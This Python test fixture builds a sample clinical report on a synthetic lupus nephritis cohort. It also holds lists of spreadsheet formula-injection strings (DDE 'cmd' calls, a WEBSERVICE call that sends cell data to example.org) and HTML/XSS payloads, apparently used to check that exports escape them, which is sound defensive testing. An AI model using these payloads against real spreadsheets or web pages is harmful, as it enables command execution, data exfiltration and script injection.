"""A small report made by hand, as the app would hand it over, and texts that mean harm."""

from dataclasses import dataclass
from html import escape

import polars as pl

from lnexplore.report.document import Report, Section

FORMULAS = (
    "=1+1",
    "=SUM(1,1)",
    '=HYPERLINK("http://example.org","y")',
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML(CONCAT("http://example.org"),"//a")',
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "x;=1+1;y",
    "x\t=1+1",
    "x\n=1+1",
    "x\n=1+1\ny",
    "\n=1+1\n",
    "\t=1+1\t",
    '"=1+1"',
    '","=1+1',
    "{=1+1}",
)
"""What a spreadsheet may calculate, alone in a cell or behind what it takes for the end of one."""

MARKUP = (
    '<script>document.title="caught"</script>',
    "<img src=http://example.org/x.png onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</style><style>body{display:none}</style>",
    "<iframe src=http://example.org></iframe>",
    "&lt;b&gt; & <b>bold</b>",
    "]]>--><!--",
    "javascript:alert(1)",
)


@dataclass(frozen=True)
class Drawing:
    """A picture of one bar, with ids such as every picture has."""

    title: str = "Remission at each visit"
    alt: str = "Who is in remission? 8 of 12 at 6 months."
    words: str = "寛解 8/12"

    @property
    def svg(self) -> str:
        words = escape(self.words)
        return (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="85mm" '
            'height="40mm" viewBox="0 0 400 188"><title>t</title><desc>d</desc><defs><clipPath id="clip0">'
            '<rect width="400" height="188"/></clipPath></defs><rect width="400" height="188" fill="white"/>'
            '<g clip-path="url(#clip0)"><rect id="bar" x="40" y="30" width="300" height="60" fill="#0b6e4f"/>'
            f'<use xlink:href="#bar"/><text x="44" y="130" font-size="24">{words}</text></g></svg>'
        )

    def png(self, dpi: int = 300) -> bytes:
        import vl_convert

        return bytes(vl_convert.svg_to_png(self.svg, scale=0.75, ppi=dpi))

    def pdf(self) -> bytes:
        import vl_convert

        return bytes(vl_convert.svg_to_pdf(self.svg, scale=0.75))


RATES = pl.DataFrame(
    {
        "Group": ["導入療法", "maintenance"],
        "Month": ["6", "6"],
        "n": ["8", "7"],
        "N": ["12", "12"],
        "Estimate": ["67\u00a0%", "58\u00a0%"],
        "95 % interval": ["39–86\u00a0%", "32–81\u00a0%"],
    }
)
WIDE = pl.DataFrame(
    {f"Characteristic number {column}": [f"value {row} of {column}" for row in range(3)] for column in range(16)}
)
LONG = pl.DataFrame({"Patient": [f"P{row:03}" for row in range(130)], "Months": [f"{row}.5" for row in range(130)]})


def report(mark: str = "") -> Report:
    """A report with every kind of part; `mark` stands in every text that may come from a sheet."""
    named = RATES.with_columns(pl.col("Group") + mark).rename({"Group": f"Group{mark}"})
    return Report(
        title=f"Remission in a cohort ループス腎炎{mark}",
        synthetic=True,
        who=f"28 patients{mark}",
        sections=(
            Section(
                f"visits{mark}",
                f"Remission at each visit{mark}",
                f"How many are in remission?{mark}",
                (Drawing(alt=f"Who is in remission? 8 of 12.{mark}", words=f"寛解 8/12{mark}"), Drawing("By month")),
                (f"At 6 months 8 of 12.{mark}",),
                named,
                (f"N leaves out who cannot be assessed.{mark}",),
            ),
            Section("wide", "Many columns", "What else?", (), ("Sixteen columns.",), WIDE),
            Section("long", "Every patient", "Who?", (), (), LONG),
        ),
        methods=(f"Response was defined as in Rokutanda 2014.{mark}", "反応はひらがなで述べる。"),
        results=(f"Complete response in 8 of 12.{mark}",),
        moved=(f"Moved after the results were seen: UPCR.{mark}",),
        cleaning={
            "Cells not used, by kind": pl.DataFrame({"Problem": [f"No number.{mark}"], "Number": ["3"]}),
            "Where": pl.DataFrame(schema={"Sheet": pl.String, "Row": pl.String}),
        },
        strobe=pl.DataFrame(
            {"item": ["1a"], "topic": [f"Title{mark}"], "where": ["Title page"], "by": ["the authors"]}
        ),
        provenance=(("Snapshot", "lnx-abcd-efgh-ijkl"), ("File 1, SHA-256", f"{'0f' * 32}{mark}")),
        address="https://example.org/?v=1",
    )
